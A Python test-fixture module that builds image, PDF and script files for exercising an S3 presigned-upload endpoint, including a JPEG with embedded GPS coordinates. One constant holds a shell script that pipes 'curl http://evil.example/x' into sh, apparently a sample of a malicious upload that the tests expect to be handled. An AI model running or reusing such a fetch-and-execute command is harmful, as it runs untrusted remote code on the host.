"""Files for tests, made with Pillow, and uploads through the real presigned form to the S3
server the suite runs against (devtools/s3_server.py or S3_ENDPOINT_URL)."""

import io

import httpx
from PIL import ExifTags, Image

GPS_LATITUDE = (51.0, 30.0, 26.0)


def jpeg_with_gps(*, size: tuple[int, int] = (64, 48), orientation: int = 1) -> bytes:
    """A JPEG whose EXIF names the camera and where it was taken."""
    image = Image.new("RGB", size, "steelblue")
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "TestPhone"
    exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = GPS_LATITUDE
    gps[ExifTags.GPS.GPSLongitudeRef] = "W"
    gps[ExifTags.GPS.GPSLongitude] = (0.0, 7.0, 39.0)
    output = io.BytesIO()
    image.save(output, format="JPEG", exif=exif)
    return output.getvalue()


def image_bytes(format_name: str, *, size: tuple[int, int] = (40, 30)) -> bytes:
    image = Image.new("RGB", size, "orange")
    output = io.BytesIO()
    image.save(output, format=format_name)
    return output.getvalue()


PDF_BYTES = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
SCRIPT_BYTES = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def post_upload(upload: dict, data: bytes, *, filename: str = "photo.jpg", content_type: str | None = None):
    """POST `data` with the presigned form, as a browser does."""
    fields = upload["fields"]
    return httpx.post(
        upload["url"],
        data=fields,
        files={"file": (filename, data, content_type or fields["Content-Type"])},
        timeout=30,
    )
